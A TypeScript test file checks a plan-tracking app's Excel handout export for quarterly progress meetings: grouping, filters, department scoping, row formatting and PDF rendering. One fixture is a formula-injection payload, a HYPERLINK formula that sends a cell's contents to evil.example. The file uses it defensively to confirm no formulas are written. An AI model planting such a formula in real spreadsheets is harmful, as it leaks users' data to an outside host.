import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HANDOUT_HEADERS } from '../src/io/handout/write-handout-workbook.js';
import { findEntryData, readZipDirectory } from '../src/shared/zip-directory.js';
import type { PlanFixture } from './support/factories.js';
import { buildDepartment, buildItem, buildPerson, buildUser, TEST_PASSWORD } from './support/factories.js';
import { buildPlan } from './support/factories.js';
import { convertWithLibreOffice } from './support/ledger-fixtures.js';
import { A3_LANDSCAPE, findCollisions, pageSize, readPdfCompactText, readPdfWords } from './support/pdf-layout.js';
import { cliEnvironment, runPlantrack, SLOW_TEST_MS } from './support/run-plantrack.js';
import type { Session, TestApp } from './support/test-app.js';
import { createTestApp, loginAs } from './support/test-app.js';

/**
 * The 调度会 handout (推进情况表): a quarter's items with their milestone, planned and reported %, the
 * computed status and its reason (as the screens show them), the quarter's approved 进展情况 and 存在问题,
 * grouped by area or by 分管市领导, filtered like the ledger page and scoped to a department's items.
 */
const QUARTER = '2024Q2';
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
const LONG_PROGRESS = `${'完成项目可行性研究报告编制并通过专家评审，'.repeat(8)}\n已开工建设二期工程；\n累计完成投资12.5亿元。`;
let t: TestApp;
let plan: PlanFixture;
let hq: Session;
let goodManager: Session;
let organisationCode: string;
const stamps = () => ({ createdAt: new Date().toISOString(), updatedAt: new Date().toISOString() });

beforeAll(async () => {
  t = await createTestApp();
  plan = await buildPlan(t.db);
  organisationCode = (await t.db.selectFrom('organisations').select('code').where('id', '=', plan.organisationId).executeTakeFirstOrThrow()).code;
  const good = await buildDepartment(t.db, plan, { shortName: '市好局' });
  const slow = await buildDepartment(t.db, plan, { shortName: '市慢局' });
  const other = await buildDepartment(t.db, plan, { shortName: '市他局' });
  const zhang = await buildPerson(t.db, plan, { name: '张市长' });
  const li = await buildPerson(t.db, plan, { name: '李市长' });
  const cycle = await t.db
    .insertInto('reportingCycles')
    .values({ planId: plan.planId, period: QUARTER, deadline: '2024-07-07', status: 'closed', openedBy: null, ...stamps() })
    .returning(['id'])
    .executeTakeFirstOrThrow();
  const onTrack = await buildItem(t.db, plan, { code: '1-01', title: '建设城市级数据中台', leadDepartmentId: good.id, leaderPersonId: zhang.id });
  const lagging = await buildItem(t.db, plan, { code: '2-01', area: '2', title: '推进海上风电基地建设', leadDepartmentId: slow.id, leaderPersonId: li.id });
  const hostile = await buildItem(t.db, plan, { code: '1-02', title: HOSTILE, leadDepartmentId: other.id, leaderPersonId: li.id, ledgers: ['innovations'] });
  const coOperated = await buildItem(t.db, plan, {
    code: '2-02',
    area: '2',
    title: '建设近零碳园区',
    leadDepartmentId: slow.id,
    coDepartmentIds: [good.id],
  });
  await planQuarter(onTrack.id, '完成方案编制并启动实施', 5000);
  await planQuarter(lagging.id, '完成主体工程80%', 8000);
  await planQuarter(hostile.id, '+启动', 4000);
  await planQuarter(coOperated.id, '完成园区规划', 3000);
  await approvedReport(cycle.id, onTrack.id, 5000, LONG_PROGRESS, null);
  await approvedReport(cycle.id, lagging.id, 2000, '完成海域论证', '项目用海审批尚未完成\n需省级部门协调');
  // A report not yet approved does not count: the handout shows neither its figure nor its text.
  await t.db
    .insertInto('progressReports')
    .values({ itemId: coOperated.id, cycleId: cycle.id, period: QUARTER, state: 'submitted', completionBp: 9000, progress: '未审核的进展', ...stamps() })
    .execute();
  hq = await loginAs(t.app, (await buildUser(t.db, plan, 'hq')).username, TEST_PASSWORD);
  goodManager = await loginAs(t.app, (await buildUser(t.db, plan, 'dept_manager', good.id)).username, TEST_PASSWORD);
});
afterAll(async () => t.close());

async function planQuarter(itemId: number, milestone: string, cumulativeBp: number) {
  await t.db
    .insertInto('quarterlyPlans')
    .values({ itemId, period: QUARTER, milestone, cumulativeBp, ...stamps() })
    .execute();
}

async function approvedReport(cycleId: number, itemId: number, completionBp: number, progress: string, problems: string | null) {
  await t.db
    .insertInto('progressReports')
    .values({ itemId, cycleId, period: QUARTER, state: 'approved', completionBp, progress, problems, ...stamps() })
    .execute();
}

async function handoutOf(session: Session, query: string) {
  const response = await session.get(`/api/exports/handout?${query}`);
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

async function loadSheet(file: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(file).buffer);
  return workbook.worksheets[0]!;
}

/** Every row as its cells' texts; a merged row (title, group heading) is one text. */
async function rowsOf(file: Buffer): Promise<string[][]> {
  const sheet = await loadSheet(file);
  const rows: string[][] = [];
  sheet.eachRow((row) => {
    const texts = HANDOUT_HEADERS.map((_, index) => row.getCell(index + 1)).map((cell) => (cell.isMerged && cell.master !== cell ? null : cellText(cell)));
    rows.push(texts.filter((text): text is string => text !== null));
  });
  return rows;
}

function cellText(cell: ExcelJS.Cell): string {
  return cell.value === null || cell.value === undefined ? '' : String(cell.value);
}

function codesOf(rows: readonly string[][]): string[] {
  return rows.filter((row) => row.length === HANDOUT_HEADERS.length && /^\d+-\d+$/.test(row[0] ?? '')).map((row) => row[0]!);
}

describe('the 调度会 handout (推进情况表)', () => {
  it('lists each item of the quarter with the figures, status and reason the ledger page shows, grouped by area', async () => {
    const response = await handoutOf(hq, `quarter=${QUARTER}`);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(String(response.headers['content-disposition'])).toMatch(/filename="handout-2024Q2-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const rows = await rowsOf(response.rawPayload);
    expect(rows[0]).toEqual(['2024年二季度推进情况表']);
    expect(rows[1]![0]).toContain('进展情况、存在问题取本季度审核通过的报告');
    expect(rows[2]).toEqual([...HANDOUT_HEADERS]);
    expect(rows.slice(3).map((row) => (row.length === 1 ? row[0] : row[0]))).toEqual(['一、领域1', '1-01', '1-02', '二、领域2', '2-01', '2-02']);

    const list = (await hq.get(`/api/items?asOf=${QUARTER}`)).json() as {
      items: { code: string; schedule: { planned: number | null; actual: number | null; statusLabel: string; reasonZh: string } }[];
    };
    const onScreen = new Map(list.items.map((item) => [item.code, item.schedule]));
    const byCode = new Map(rows.filter((row) => row.length > 1).map((row) => [row[0], row]));
    for (const code of ['1-01', '1-02', '2-01', '2-02']) {
      const [, , , , , planned, actual, status, reason] = byCode.get(code)!;
      const screen = onScreen.get(code)!;
      expect({ planned, actual, status, reason }, code).toEqual({
        planned: screen.planned === null ? '—' : `${screen.planned}%`,
        actual: screen.actual === null ? '—' : `${screen.actual}%`,
        status: screen.statusLabel,
        reason: screen.reasonZh,
      });
    }
    expect(byCode.get('1-01')).toEqual([
      '1-01',
      '建设城市级数据中台',
      '市好局',
      '张市长',
      '完成方案编制并启动实施',
      '50%',
      '50%',
      '序时推进',
      onScreen.get('1-01')!.reasonZh,
      LONG_PROGRESS,
      '',
    ]);
    expect(byCode.get('2-01')!.slice(5, 8)).toEqual(['80%', '20%', '严重滞后']);
    expect(byCode.get('2-01')![10]).toBe('项目用海审批尚未完成\n需省级部门协调');
    // Only approved reports count: the submitted report's 90% and text are not shown.
    expect(byCode.get('2-02')!.slice(6)).toEqual(['—', '未报送', onScreen.get('2-02')!.reasonZh, '', '']);
  });

  it('colours the status cell red, yellow or green, and sets every row as tall as its text', async () => {
    const sheet = await loadSheet((await handoutOf(hq, `quarter=${QUARTER}`)).rawPayload);
    const fillOf = (code: string) => {
      let fill: string | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(1).value === code) fill = (row.getCell(8).fill as ExcelJS.FillPattern).fgColor?.argb;
      });
      return fill;
    };
    expect(fillOf('1-01')).toBe('FFC6EFCE');
    expect(fillOf('2-01')).toBe('FFFFC7CE');
    sheet.eachRow((row, number) => expect(row.height, `row ${number}`).toBeGreaterThan(0));
    const heightOf = (code: string) => {
      let height = 0;
      sheet.eachRow((row) => {
        if (row.getCell(1).value === code) height = row.height;
      });
      return height;
    };
    // 1-01's progress: 160 Chinese characters in a 40-unit column are 9 lines, and two lines more.
    expect(heightOf('1-01')).toBeGreaterThanOrEqual(11 * 15);
    expect(heightOf('1-01')).toBeGreaterThan(heightOf('2-02') * 2);
    expect(sheet.pageSetup).toMatchObject({ paperSize: 8, orientation: 'landscape', fitToWidth: 1, fitToHeight: 0, printTitlesRow: '3:3' });
  });

  it('groups by 分管市领导 when asked, with items that have none last', async () => {
    const rows = await rowsOf((await handoutOf(hq, `quarter=${QUARTER}&groupBy=leader`)).rawPayload);
    expect(rows.slice(3).map((row) => row[0])).toEqual([
      '一、张市长（副市长）',
      '1-01',
      '二、李市长（副市长）',
      '1-02',
      '2-01',
      '三、未明确分管市领导',
      '2-02',
    ]);
  });

  it('filters like the ledger page: ledger, area, department, leader, status, search words', async () => {
    const codes = async (query: string) => codesOf(await rowsOf((await handoutOf(hq, `quarter=${QUARTER}&${query}`)).rawPayload));
    expect(await codes('ledger=innovations')).toEqual(['1-02']);
    expect(await codes('area=2')).toEqual(['2-01', '2-02']);
    expect(await codes(`department=${encodeURIComponent('市好局')}`)).toEqual(['1-01', '2-02']);
    expect(await codes('status=seriously_behind')).toEqual(['2-01']);
    expect(await codes(`q=${encodeURIComponent('风电')}`)).toEqual(['2-01']);
    const rows = await rowsOf((await handoutOf(hq, `quarter=${QUARTER}&status=seriously_behind&area=2`)).rawPayload);
    expect(rows[1]![0]).toMatch(/筛选：领域：2；状态：严重滞后/);
    expect((await hq.get(`/api/exports/handout?quarter=2024Q5`)).statusCode).toBe(400);
    expect((await hq.get(`/api/exports/handout?quarter=${QUARTER}&groupBy=department`)).statusCode).toBe(400);
  });

  it('gives a department only the items it leads or co-operates on, never another department’s', async () => {
    const rows = await rowsOf((await handoutOf(goodManager, `quarter=${QUARTER}`)).rawPayload);
    expect(codesOf(rows)).toEqual(['1-01', '2-02']);
    // Asking for another department's items narrows within its own scope: nothing.
    expect(codesOf(await rowsOf((await handoutOf(goodManager, `quarter=${QUARTER}&department=${encodeURIComponent('市他局')}`)).rawPayload))).toEqual([]);
    const audit = await t.db
      .selectFrom('auditLog')
      .select(['action', 'after'])
      .where('action', '=', 'handout.export')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    expect(JSON.parse(audit.after!)).toMatchObject({ quarter: QUARTER, groupBy: 'area', itemCount: 0 });
  });

  it('writes no formula: text that starts like one is shown as typed in a Text cell', async () => {
    const file = (await handoutOf(hq, `quarter=${QUARTER}`)).rawPayload;
    expect(worksheetXml(file)).not.toMatch(/<f[ >]/);
    const sheet = await loadSheet(file);
    const hostile: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => (typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value) ? hostile.push(cell) : undefined)));
    expect(hostile.map((cell) => cell.value)).toEqual([HOSTILE, '+启动']);
    for (const cell of hostile) expect(cell.numFmt).toBe('@');
  });

  it(
    'opens in LibreOffice on A3 landscape with every row’s text whole and visible',
    async () => {
      const file = (await handoutOf(hq, `quarter=${QUARTER}`)).rawPayload;
      const pdf = await convertWithLibreOffice(file, 'xlsx', 'pdf');
      const pages = await readPdfWords(pdf);
      for (const page of pages) {
        expect(pageSize(page)).toEqual(A3_LANDSCAPE);
        expect(findCollisions(page)).toEqual([]);
      }
      const printed = await readPdfCompactText(pdf);
      for (const row of await rowsOf(file)) {
        for (const text of row) expect(printed, text).toContain(text.replace(/\s+/g, ''));
      }
    },
    SLOW_TEST_MS,
  );

  it(
    'plantrack handout writes a department’s handout grouped by leader',
    async () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'plantrack-handout-'));
      const out = path.join(dir, 'handout.xlsx');
      const result = await runPlantrack(
        cliEnvironment(t.database.target),
        'handout',
        '--quarter',
        QUARTER,
        '--group-by',
        'leader',
        '--department',
        '市好局',
        '--out',
        out,
        '--organisation',
        organisationCode,
      );
      expect(result.code, result.stderr).toBe(0);
      const rows = await rowsOf(fs.readFileSync(out));
      expect(rows.slice(3).map((row) => row[0])).toEqual(['一、张市长（副市长）', '1-01', '二、未明确分管市领导', '2-02']);
      const refused = await runPlantrack(cliEnvironment(t.database.target), 'handout', '--quarter', '2024年二季度', '--out', out);
      expect(refused.code).not.toBe(0);
      expect(refused.stderr).toContain('--quarter 应写成 2024Q2');
      fs.rmSync(dir, { recursive: true, force: true });
    },
    SLOW_TEST_MS,
  );
});

/** The raw XML of every worksheet, to check no <f> (formula) element was written. */
function worksheetXml(xlsx: Buffer): string {
  const directory = readZipDirectory(xlsx, 1000);
  if (!directory.ok) throw new Error(directory.reason);
  return directory.entries
    .filter((entry) => entry.name.startsWith('xl/worksheets/') && entry.name.endsWith('.xml'))
    .map((entry) => inflateRawSync(findEntryData(xlsx, entry) ?? Buffer.alloc(0)).toString('utf8'))
    .join('');
}
